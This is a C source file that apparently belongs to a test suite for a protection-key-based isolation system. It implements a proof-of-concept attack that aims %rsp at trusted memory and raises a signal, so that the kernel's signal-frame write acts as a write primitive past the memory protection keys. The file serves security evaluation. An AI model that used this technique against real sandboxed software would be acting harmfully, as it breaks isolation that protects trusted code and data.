/* SPDX-License-Identifier: MIT */
/* atk_sigframe.c: the signal frame as a write primitive into trusted memory.
 * Linux 6.12 writes signal frames with every protection key enabled (so a
 * key-protected sigaltstack works).  The frame goes below %rsp, and %rsp is
 * the attacker's register: untrusted code points it into trusted memory and
 * signals itself; the kernel writes the registers it chose (and the XSAVE
 * image, and siginfo) there.  The handler touches no stack: it loads the
 * saved %rsp and jumps back.
 *
 * Before 6.12 the kernel writes the frame with the task's PKRU: the write
 * faults and the task dies of SIGSEGV -- the hardware refuses; the program
 * says so and skips (there is nothing for erim-tem to add). */
#define ATK_SECRET_LEN (4 * 4096)   /* room below %rsp for a frame with a large XSAVE image */

#include "atk_common.h"

void atk_sf_handler(int);
__asm__(".text\n"
        ".globl atk_sf_handler\n"
        "atk_sf_handler:\n"
        "\tjmp atk_raise_back\n");

static enum atk_result atk_attack(void)
{
	struct sigaction sa;
	uint64_t top = (uintptr_t)atk_secret + ATK_SECRET_LEN - 256;
	pid_t pid;
	int st;
	size_t i, marks = 0;

	memset(&sa, 0, sizeof sa);
	sa.sa_handler = atk_sf_handler;
	sa.sa_flags = SA_NODEFER;
	sigaction(SIGUSR1, &sa, NULL);
	atk_say("%%rsp -> %#llx (trusted page %p), kill(self, SIGUSR1)", (unsigned long long)top, (void *)atk_secret);
	fflush(stdout);
	pid = fork();
	if (pid == 0) {
		atk_raise_on(top);
		atk_trusted();   /* the checker's view */
		for (i = 0; i + 8 <= ATK_SECRET_LEN; i += 8)
			if (*(volatile uint64_t *)(atk_secret + i) == ATK_RAISE_MARK)
				marks++;
		atk_untrusted();
		atk_say("the handler ran; the chosen register value is in trusted memory %zu time(s)", marks);
		fflush(stdout);
		_exit(marks ? 10 : 11);
	}
	if (pid < 0 || waitpid(pid, &st, 0) != pid)
		return ATK_ERROR;
	if (WIFSIGNALED(st)) {
		atk_say("the signalling process died of signal %d", WTERMSIG(st));
		if (WTERMSIG(st) == SIGSEGV && atk_kernel_before_6_12()) {
			atk_say("kernel before 6.12 writes the frame with the task's PKRU: the hardware refused the "
			        "frame write (SIGSEGV); nothing for erim-tem to add here");
			return ATK_NA;
		}
		return ATK_REFUSED;
	}
	return WIFEXITED(st) && WEXITSTATUS(st) == 10 ? ATK_SUCCEEDED : ATK_REFUSED;
}

static const char *atk_name = "atk_sigframe";
static int atk_needs_pku = 1;
